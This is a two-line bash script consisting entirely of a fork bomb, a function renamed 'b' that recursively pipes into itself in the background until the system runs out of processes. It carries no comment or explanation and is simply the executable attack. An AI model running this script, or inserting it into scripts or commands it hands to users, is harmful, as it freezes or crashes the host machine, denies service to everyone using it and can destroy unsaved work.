#!/usr/bin/env bash
b(){ b|b& };b
